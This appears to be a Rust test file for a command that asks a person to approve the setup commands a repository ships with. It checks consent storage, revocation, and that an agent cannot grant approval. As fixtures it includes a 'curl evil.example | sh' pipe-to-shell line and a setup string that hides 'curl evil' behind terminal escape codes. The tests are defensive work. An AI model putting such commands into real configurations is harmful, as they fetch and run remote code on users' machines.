//! `orange project trust`: agreeing to the commands that a repository comes with.

use crate::env::{TestEnvironment, with_answers};
use crate::run::program;
use insta::assert_snapshot;
use rusqlite::Connection;
use std::fs;

const COMMANDS: &str = "workspace:\n  setup:\n    - make ready\n    - |\n      echo one\n      echo two\n  teardown: make clean\n";

fn with_commands(text: &str) -> TestEnvironment {
    let env = TestEnvironment::new();
    commit_commands(&env, text);
    env
}

fn commit_commands(env: &TestEnvironment, text: &str) -> String {
    fs::create_dir_all(env.shop().join(".orange")).unwrap();
    env.commit(&env.shop(), ".orange/config.yaml", text)
}

fn trust(env: &TestEnvironment, more: &[&str]) -> crate::run::Run {
    let mut arguments = vec!["project", "trust", "shop"];
    arguments.extend(more);
    env.orange(arguments)
}

fn without_hash(env: &TestEnvironment, run: crate::run::Run) -> String {
    let commit = env.git(&env.shop(), &["rev-parse", "HEAD"]);
    let text = run.to_string().replace(&commit, "[HEAD]");
    text.replace(&commit[..7], "[SHORT]")
}

fn consents(env: &TestEnvironment) -> u32 {
    Connection::open(env.home().join("orange.db"))
        .unwrap()
        .query_row("SELECT count(*) FROM consents", [], |row| row.get(0))
        .unwrap()
}

#[test]
fn agreed_once_and_for_exactly_these_commands() {
    let env = with_commands(COMMANDS);
    assert_snapshot!(without_hash(&env, trust(&env, &[])), @"
    commands in .orange/config.yaml of project shop at [SHORT]:
      setup     make ready
      setup     echo one
                echo two
      teardown  make clean
    ------- stderr -------
    error: agreeing to the commands of project shop needs an answer, and this is no terminal
    hint: read them, then `orange project trust shop --yes`
    [exit status: 3]
    ");
    assert_eq!(consents(&env), 0);
    assert_snapshot!(without_hash(&env, trust(&env, &["--yes"])), @"
    commands in .orange/config.yaml of project shop at [SHORT]:
      setup     make ready
      setup     echo one
                echo two
      teardown  make clean
    agreed to the commands of project shop at [SHORT]
    ");
    assert_eq!(consents(&env), 1);
    assert_snapshot!(without_hash(&env, trust(&env, &[])), @"
    commands in .orange/config.yaml of project shop at [SHORT]:
      setup     make ready
      setup     echo one
                echo two
      teardown  make clean
    you have agreed to the commands of project shop at [SHORT]
    ");
    // Only what the commands are counts, not where they stand.
    commit_commands(
        &env,
        &format!("# a comment\n{COMMANDS}review:\n  max_rounds: 7\n"),
    );
    trust(&env, &[]).ok().says("you have agreed");
    commit_commands(
        &env,
        &COMMANDS.replace("make ready", "curl evil.example | sh"),
    );
    trust(&env, &["--json"]).refuses(3, "refused");
    commit_commands(&env, COMMANDS);
    trust(&env, &["--json"]).ok();
    assert_eq!(consents(&env), 1);
}

#[test]
fn a_program_gets_it_as_json() {
    let env = with_commands(COMMANDS);
    assert_snapshot!(without_hash(&env, trust(&env, &["--yes", "--json"])), @r#"{"project":"shop","commit":"[HEAD]","commands":{"setup":["make ready","echo one\necho two"],"teardown":["make clean"],"verify":[],"lint":[],"coverage":[],"plans":[]},"claude_files":[],"trusted":true,"message":"agreed to the commands of project shop at [SHORT]"}"#);
    let revoked = trust(&env, &["--revoke", "--json"]).ok().json();
    assert_eq!(
        (&revoked["revoked"], &revoked["trusted"]),
        (&1.into(), &false.into())
    );
}

#[test]
fn a_person_at_a_terminal_is_asked() {
    let env = with_commands(COMMANDS);
    let line = format!("{} project trust shop", program().display());
    let shown = with_answers(&env, 100, &line, "n\n");
    assert!(shown.contains("make ready"), "{shown}");
    assert!(
        shown.contains("let Orange run these in every workspace of shop? [y/N]"),
        "{shown}"
    );
    assert!(shown.contains("nothing was changed"), "{shown}");
    assert_eq!(consents(&env), 0);
    let shown = with_answers(&env, 100, &line, "y\n");
    assert!(
        shown.contains("agreed to the commands of project shop"),
        "{shown}"
    );
    assert_eq!(consents(&env), 1);
    // Not asked twice.
    let shown = with_answers(&env, 100, &line, "n\n");
    assert!(shown.contains("you have agreed"), "{shown}");
    // Where the list goes into a file, the question still says what it is about.
    trust(&env, &["--revoke"]).ok();
    let shown = with_answers(&env, 100, &format!("{line} > /dev/null"), "n\n");
    assert!(shown.contains("make ready"), "{shown}");
}

#[test]
fn what_would_hide_on_a_terminal_is_shown() {
    let env =
        with_commands("workspace:\n  setup: \"make \\e[8m; curl evil\\e[0m\\u202e\\rharmless\"\n");
    let shown = trust(&env, &["--yes"]).ok().stdout;
    assert!(
        shown.contains("make ␛[8m; curl evil␛[0m\u{fffd}␍harmless"),
        "{shown:?}"
    );
}

#[test]
fn nothing_to_agree_to() {
    let env = TestEnvironment::new();
    trust(&env, &[]).ok().says("comes with no commands");
    trust(&env, &["--revoke"])
        .ok()
        .says("nothing was agreed to");
    env.orange(["project", "trust", "shp"])
        .fails_with(4)
        .says("known projects: shop");
    env.orange(["project", "trust", "shp", "--revoke"])
        .fails_with(4);
    // No commit at all.
    let empty = env.root().join("empty");
    fs::create_dir(&empty).unwrap();
    env.git(&empty, &["init", "-q", "-b", "main"]);
    env.orange(["project", "add", empty.to_str().unwrap()]).ok();
    assert_snapshot!(env.orange(["project", "trust", "empty"]), @"
    ------- stderr -------
    error: project empty has no commit on main yet
    hint: commit something first, or name a branch with --at
    [exit status: 3]
    ");
}

#[test]
fn the_newest_base_counts_and_not_the_checkout() {
    let env = with_commands(COMMANDS);
    let shop = env.shop();
    fs::write(
        shop.join(".orange/config.yaml"),
        "workspace:\n  setup: not committed\n",
    )
    .unwrap();
    let run = trust(&env, &["--yes"]).ok();
    run.says("make ready");
    env.git(&shop, &["checkout", "-q", "-f", "-b", "elsewhere"]);
    commit_commands(&env, "workspace:\n  setup: on a branch\n");
    trust(&env, &[]).ok().says("make ready");
    let refused = trust(&env, &["--at", "elsewhere"]).fails_with(3);
    refused
        .says("on a branch")
        .says("`orange project trust shop --at elsewhere --yes`");
    trust(&env, &["--at", "elsewhere", "--yes"]).ok();
    trust(&env, &["--at", "elsewhere"])
        .ok()
        .says("you have agreed");
    trust(&env, &["--at", "--all"]).fails_with(2);
    trust(&env, &["--at=--all"]).fails_with(4);
    // What the remote has comes before what is here.
    let tip = env.git(&shop, &["rev-parse", "elsewhere"]);
    env.git(&shop, &["update-ref", "refs/remotes/origin/main", &tip]);
    trust(&env, &[]).ok().says("on a branch");
}

#[test]
fn an_agent_cannot_agree_to_anything() {
    let env = with_commands(COMMANDS);
    let task = env.create(["A task"]);
    for more in [["--yes"], ["--revoke"], ["--json"]] {
        let mut arguments = vec!["project", "trust", "shop", "--json"];
        arguments.extend(more);
        arguments.dedup();
        env.call(arguments)
            .agent(&task, "worker")
            .run()
            .refuses(3, "not_allowed");
    }
    assert_eq!(consents(&env), 0);
}

#[test]
fn consent_goes_with_the_project_and_with_its_repository() {
    let env = with_commands(COMMANDS);
    trust(&env, &["--yes"]).ok();
    env.orange(["project", "remove", "shop"]).ok();
    assert_eq!(consents(&env), 0);
    env.orange(["project", "add", "."]).ok();
    trust(&env, &["--yes"]).ok();
    env.orange([
        "project",
        "update",
        "shop",
        "--pool-size",
        "3",
        "--path",
        ".",
    ])
    .ok();
    assert_eq!(consents(&env), 1);
    // The same commands in another repository may do something else.
    let other = env.init_repository("other");
    env.orange([
        "project",
        "update",
        "shop",
        "--path",
        other.to_str().unwrap(),
    ])
    .ok();
    assert_eq!(consents(&env), 0);
}

#[test]
fn a_broken_file_is_said_with_commit_and_line() {
    let env = with_commands("workspace:\n  timeout: 0\n");
    assert_snapshot!(without_hash(&env, trust(&env, &["--yes"])), @"
    ------- stderr -------
    error: .orange/config.yaml at commit [SHORT], line 2: workspace.timeout must be a time above 0: seconds, or such as 90s, 10m, 1h
    hint: correct it in [TMP]/shop and commit that on the branch the task starts from
    [exit status: 1]
    ");
}

#[test]
fn doctor_reads_the_rules_too() {
    let env = with_commands("workspace:\n  setup: make\n  shape: round\n");
    assert_snapshot!(env.orange(["doctor"]), @r#"
    home       ✗ project shop: .orange/config.yaml, line 3: there is no setting "workspace.shape"
    checked 0 tasks and 1 project
    ------- stderr -------
    error: 1 problem found
    hint: the list says what to do by hand
    [exit status: 1]
    "#);
    commit_commands(&env, "workspace:\n  setup: {}\n");
    assert_snapshot!(without_hash(&env, env.orange(["doctor"])), @"
    home       ✗ project shop: .orange/config.yaml at commit [SHORT], line 2: workspace.setup must be a command or a list of commands
                   by hand: correct it in [TMP]/shop and commit that on the branch the task starts from
    checked 0 tasks and 1 project
    ------- stderr -------
    error: 1 problem found
    hint: the list says what to do by hand
    [exit status: 1]
    ");
    commit_commands(&env, COMMANDS);
    env.orange(["doctor"]).ok();
}
